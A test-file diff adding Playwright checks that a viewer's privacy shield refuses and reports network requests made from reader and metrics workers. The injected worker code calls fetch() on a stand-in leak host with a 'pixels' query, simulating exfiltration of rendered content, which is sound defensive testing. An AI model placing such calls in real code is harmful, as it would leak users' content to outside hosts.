@@ -109,3 +109,22 @@ test('a refusal turns the shield red and is told in its panel', async ({ startSe
   await session.viewer.shield.click();
   await expect(session.page.getByTestId('privacy-panel')).toContainText('leak.example');
 });
+
+for (const script of ['reader', 'metrics'] as const) {
+  test(`a refusal inside the ${script} worker turns the shield red and is told in its panel`, async ({ startSession }) => {
+    const session = await startSession();
+    const code = `if (location.pathname.endsWith('/${script}.js')) fetch('${ELSEWHERE}/?pixels=1', { mode: 'no-cors' }).catch(() => 0)`;
+    await visit(session, { name: script, where: 'worker', code });
+    await expect(session.viewer.shield).toHaveAttribute('data-refused', /^[1-9]/);
+    await expect(session.viewer.shield).toHaveClass(/\bbad\b/);
+    await session.viewer.shield.click();
+    await expect(session.page.getByTestId('privacy-panel')).toContainText(/leak\.example.*in a worker/);
+  });
+}
+
+test('a request that a worker makes to its own origin, which the policy allows, is told too', async ({ startSession }) => {
+  const session = await startSession();
+  await visit(session, { name: 'own origin', where: 'worker', code: `fetch('/leak?pixels=1').catch(() => 0)` });
+  await expect(session.viewer.shield).toHaveAttribute('data-requests', /^[1-9]/);
+  await expect(session.viewer.shield).toHaveClass(/\bbad\b/);
+});
